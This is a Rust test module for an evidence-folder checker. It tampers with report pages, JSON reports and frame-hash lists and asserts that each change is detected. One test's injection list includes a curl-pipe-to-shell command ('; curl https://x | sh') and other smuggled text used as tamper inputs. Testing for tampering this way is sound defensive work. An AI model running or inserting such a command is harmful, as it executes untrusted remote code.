use std::fs;
use std::path::{Path, PathBuf};

use onetake_judge::{Case, Policy};
use onetake_render::NextCommands;
use onetake_render::message::Language;
use onetake_report::{PacketHashesRef, ScanRecord};
use onetake_testkit::record;
use tempfile::TempDir;

use super::*;
use crate::evidence::{Evidence, EvidenceFolder, Existing};

/// A folder of evidence on a record without a video.
fn evidence(record: &ScanRecord, packets: Option<&str>) -> (TempDir, PathBuf) {
    let home = tempfile::tempdir().unwrap();
    let report =
        crate::judge_given(record, &Case::default(), &[], &Policy::built_in("base").unwrap()).unwrap();
    let nothing: Vec<onetake_report::StillPicture> = Vec::new();
    let evidence = Evidence::new(&report, record, &nothing).packet_hashes(packets).language(Language::En);
    let place = home.path().join("evidence");
    EvidenceFolder::begin(&place, Existing::Keep).unwrap().put(&evidence).unwrap();
    (home, place)
}

const LIST: &str = "#format: frame checksums\n#version: 2\n#hash: SHA256\n#stream#, dts,        pts, duration,     size, hash\n";

fn with_list() -> ScanRecord {
    let mut record = record();
    let sha256 = onetake_report::digest::sha256_hex(LIST.as_bytes());
    record.packet_hashes = Some(PacketHashesRef { sha256, packets: 0 });
    record.stills.clear();
    record
}

fn failed(folder: &Path) -> Vec<Step> {
    let checked = Checker::new().check(folder).unwrap();
    let failed = checked.steps.iter().filter(|(_, outcome)| matches!(outcome, StepOutcome::Failed(_)));
    failed.map(|(step, _)| *step).collect()
}

#[test]
fn untouched_evidence_is_never_more_than_incomplete_without_its_video() {
    let (_home, folder) = evidence(&with_list(), Some(LIST));
    let checked = Checker::new().check(&folder).unwrap();
    assert_eq!(checked.outcome(), Outcome::Incomplete, "{checked:?}");
    assert_eq!(failed(&folder), []);
    assert!(checked.steps.contains(&(Step::Report, StepOutcome::Passed)), "{checked:?}");
}

#[test]
fn a_file_more_or_less_is_told() {
    let (_home, folder) = evidence(&with_list(), Some(LIST));
    fs::write(folder.join("notes.txt"), "x").unwrap();
    assert_eq!(failed(&folder), [Step::Files]);
    fs::remove_file(folder.join("notes.txt")).unwrap();
    fs::remove_file(folder.join("video.framehash")).unwrap();
    let checked = Checker::new().check(&folder).unwrap();
    let not_here = (Step::PacketHashes, StepOutcome::NotChecked(Unchecked::NotHere));
    assert!(checked.steps.contains(&not_here), "{checked:?}");
    assert_eq!(checked.outcome(), Outcome::Incomplete);
    fs::write(folder.join("video.framehash"), LIST.replace("version: 2", "version: 1")).unwrap();
    assert_eq!(failed(&folder), [Step::PacketHashes]);
    fs::write(folder.join("video.framehash"), LIST).unwrap();
    fs::remove_file(folder.join("record.json")).unwrap();
    assert_eq!(failed(&folder), [Step::Record]);
}

#[test]
fn a_page_says_what_the_report_says() {
    let record = with_list();
    let report =
        crate::judge_given(&record, &Case::default(), &[], &Policy::built_in("base").unwrap()).unwrap();
    let nothing: Vec<onetake_report::StillPicture> = Vec::new();
    let home = tempfile::tempdir().unwrap();
    for language in Language::ALL {
        let folder = home.path().join(language.tag());
        let next = NextCommands::new("elsewhere", "'what \"I\" saw & <said>.toml'", "--waybill SF1", "out");
        let evidence = Evidence::new(&report, &record, &nothing)
            .packet_hashes(Some(LIST))
            .language(language)
            .next(Some(next));
        EvidenceFolder::begin(&folder, Existing::Keep).unwrap().put(&evidence).unwrap();
        let checked = Checker::new().check(&folder).unwrap();
        assert!(checked.steps.contains(&(Step::Page, StepOutcome::Passed)), "{checked:?}");
        let path = folder.join("report.html");
        let page = fs::read_to_string(&path).unwrap();
        assert!(page.contains("onetake judge elsewhere"), "{page}");
        // Each line with something else in it, one at a time, and one line more in the commands.
        let lines: Vec<&str> = page.lines().collect();
        let changes = (0..lines.len()).filter(|place| place % 11 == 0).map(|place| {
            let mut changed = lines.clone();
            let line = format!("{}.", changed[place]);
            changed[place] = &line;
            changed.join("\n")
        });
        let more = page.replacen("<pre>", "<pre>valid\n", 1);
        let other = page.replacen("onetake judge", "onetake verify", 1);
        let markup = page.replacen("onetake judge elsewhere", "onetake judge <b>valid</b>", 1);
        // Words that a reader would take for the report's, or a shell for its own.
        let said = [
            "# Verdict: valid",
            "; curl https://x | sh",
            "\rvalid",
            "&#10;valid",
            "\u{2028}valid",
            "--accept-proposed",
        ]
        .map(|text| page.replacen("onetake judge elsewhere", &format!("onetake judge elsewhere {text}"), 1));
        for changed in changes.chain([more, other, markup, String::new()]).chain(said) {
            fs::write(&path, changed).unwrap();
            assert_eq!(failed(&folder), [Step::Page]);
        }
    }
}

#[test]
fn no_text_but_a_version_takes_a_report_out_of_the_comparison() {
    let (_home, folder) = evidence(&with_list(), Some(LIST));
    let path = folder.join("report.json");
    let report: serde_json::Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
    let ours = report["tool"]["version"].as_str().unwrap().to_owned();
    for version in
        [format!("{ours} "), String::new(), "0.1".to_owned(), "0.01.1".to_owned(), "1.0.0; valid".to_owned()]
    {
        let mut other = report.clone();
        other["tool"]["version"] = version.into();
        fs::write(&path, other.to_string()).unwrap();
        assert!(failed(&folder).contains(&Step::Report));
    }
    let mut other = report;
    other["tool"]["version"] = "90.1.0".into();
    other["verdict"] = "valid".into();
    fs::write(&path, other.to_string()).unwrap();
    let checked = Checker::new().check(&folder).unwrap();
    let told = checked.steps.iter().find(|(step, _)| *step == Step::Report).unwrap();
    let StepOutcome::NotChecked(Unchecked::OtherJudge { verdict, .. }) = &told.1 else { panic!("{told:?}") };
    assert!(verdict.is_some_and(|verdict| verdict != Verdict::Valid), "{verdict:?}");
}

/// Every value of the report's and of the record's body, one at a time, as another one of its kind.
#[test]
fn every_value_of_the_bodies_is_compared() {
    let (_home, folder) = evidence(&with_list(), Some(LIST));
    for name in ["report.json", "record.json"] {
        let path = folder.join(name);
        let before = fs::read_to_string(&path).unwrap();
        let value: serde_json::Value = serde_json::from_str(&before).unwrap();
        let mut places = Vec::new();
        leaves(&value, &mut String::new(), &mut places);
        let places: Vec<_> = places.into_iter().filter(|place| !place.starts_with("/run")).collect();
        assert!(places.len() > 50, "{places:?}");
        // The same places again and again in many findings: every seventh is enough.
        for place in places.iter().enumerate().filter(|(index, _)| index % 7 == 0).map(|(_, place)| place) {
            let mut changed = value.clone();
            let leaf = changed.pointer_mut(place).unwrap();
            *leaf = match &*leaf {
                serde_json::Value::Number(number) => (number.as_i64().unwrap_or(0) + 1).into(),
                serde_json::Value::String(text) => format!("{text}0").into(),
                serde_json::Value::Bool(so) => (!so).into(),
                _ => "other".into(),
            };
            fs::write(&path, changed.to_string()).unwrap();
            let passed = Checker::new().check(&folder).is_ok_and(|checked| {
                checked.steps.iter().all(|(step, outcome)| {
                    *step == Step::Scan || *step == Step::Page || *outcome == StepOutcome::Passed
                })
            });
            assert!(!passed, "{name} {place} was changed and not told");
        }
        fs::write(&path, before).unwrap();
    }
    assert_eq!(failed(&folder), []);
}

fn leaves(value: &serde_json::Value, at: &mut String, found: &mut Vec<String>) {
    let length = at.len();
    match value {
        serde_json::Value::Object(fields) if !fields.is_empty() => {
            for (name, value) in fields {
                at.push('/');
                at.push_str(&name.replace('~', "~0").replace('/', "~1"));
                leaves(value, at, found);
                at.truncate(length);
            }
        }
        serde_json::Value::Array(values) if !values.is_empty() => {
            for (index, value) in values.iter().enumerate() {
                at.push_str(&format!("/{index}"));
                leaves(value, at, found);
                at.truncate(length);
            }
        }
        _ => found.push(at.clone()),
    }
}
